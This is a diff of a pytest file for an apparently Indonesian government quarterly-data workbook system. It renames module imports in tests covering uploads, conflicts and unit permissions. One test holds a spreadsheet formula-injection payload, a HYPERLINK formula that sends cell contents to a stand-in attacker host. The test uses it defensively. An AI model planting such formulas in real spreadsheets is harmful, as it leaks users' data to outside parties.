@@ -10,9 +10,10 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import func, select
 
-from core import entry, rounds
+from core import entry, round_status
 from core import unit_workbook as uw
 from core.errors import Conflict, InvalidInput, NotAllowed
+from core.steps import disposisi, isi_data
 from core.uow import unit_of_work
 from db.models import AuditLog, BudgetRealization, Realization
 
@@ -23,9 +24,9 @@ TODAY = dt.date(2026, 10, 5)
 def submission(db_url, actors) -> int:
     """TW III 2026 opened and distributed; the Bidang Pelatihan's submission."""
     with unit_of_work(db_url) as s:
-        rnd = rounds.open_round(s, actors["kadis"], 2026, 3, "Kumpulkan data TW III 2026.", dt.date(2026, 10, 15),
+        rnd = disposisi.open_round(s, actors["kadis"], 2026, 3, "Kumpulkan data TW III 2026.", dt.date(2026, 10, 15),
                                 today=TODAY)
-        subs = rounds.distribute(s, actors["sekdis"], rnd.id)
+        subs = disposisi.distribute(s, actors["sekdis"], rnd.id)
         return next(x.id for x in subs if x.unit.code == "BID-LATTAS")
 
 
@@ -120,7 +121,7 @@ def test_text_in_realisasi_is_an_error_and_nothing_is_applied(db_url, actors, su
 def test_workbook_of_another_unit_is_refused(db_url, actors, submission):
     with unit_of_work(db_url) as s:
         data = uw.unit_workbook(s, actors["kabid_lattas"], submission)
-        other = next(x.id for x in rounds.get_submission(s, submission).round.submissions
+        other = next(x.id for x in round_status.get_submission(s, submission).round.submissions
                      if x.unit.code == "BID-HIJS")
     with unit_of_work(db_url) as s, pytest.raises(InvalidInput, match="bukan untuk data yang sedang dibuka"):
         uw.parse_unit_workbook(s, actors["kabid_hijs"], other, data)
@@ -134,7 +135,7 @@ def test_a_value_saved_in_the_grid_after_download_stops_the_upload(db_url, actor
         data = uw.unit_workbook(s, kabid, submission)
         ind = int(entry.entry_table(s, kabid, submission).set_index("Kode").loc["IK-03", "indicator_id"])
     with unit_of_work(db_url) as s:
-        entry.save_entries(s, kabid, submission, {ind: {"Realisasi TW": 200}}, {ind: 0})
+        isi_data.save_entries(s, kabid, submission, {ind: {"Realisasi TW": 200}}, {ind: 0})
     with unit_of_work(db_url) as s, pytest.raises(Conflict):
         uw.apply_unit_workbook(s, kabid, submission, filled(data, {"IK-03": {"Realisasi TW": 150}}))
     with unit_of_work(db_url) as s:
@@ -152,9 +153,9 @@ def test_isi_data_page_offers_the_workbook_and_applies_an_upload(sqlite_url):
     from tests.apptest import logged_in, texts
 
     with unit_of_work(sqlite_url) as s:
-        rnd = rounds.open_round(s, actor_for(s, "kadis"), 2026, 3, "Kumpulkan data TW III 2026.",
+        rnd = disposisi.open_round(s, actor_for(s, "kadis"), 2026, 3, "Kumpulkan data TW III 2026.",
                                 dt.date(2099, 10, 15), today=TODAY)
-        sub = next(x.id for x in rounds.distribute(s, actor_for(s, "sekdis"), rnd.id) if x.unit.code == "BID-LATTAS")
+        sub = next(x.id for x in disposisi.distribute(s, actor_for(s, "sekdis"), rnd.id) if x.unit.code == "BID-LATTAS")
         kabid = actor_for(s, "kabid_lattas")
         data = uw.unit_workbook(s, kabid, sub)
     at = logged_in("kabid_lattas", "pages/isi_data.py")
@@ -173,7 +174,7 @@ def test_formula_like_kendala_round_trips_without_a_spurious_change(db_url, acto
     hostile = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'
     with unit_of_work(db_url) as s:
         ind_id = int(entry.entry_table(s, kabid, submission).iloc[0]["indicator_id"])
-        entry.save_entries(s, kabid, submission, {ind_id: {"Kendala": hostile, "Tindak lanjut": "+1+2"}})
+        isi_data.save_entries(s, kabid, submission, {ind_id: {"Kendala": hostile, "Tindak lanjut": "+1+2"}})
     with unit_of_work(db_url) as s:
         data = uw.unit_workbook(s, kabid, submission)
     ws = load_workbook(io.BytesIO(data))[uw.IND_SHEET]
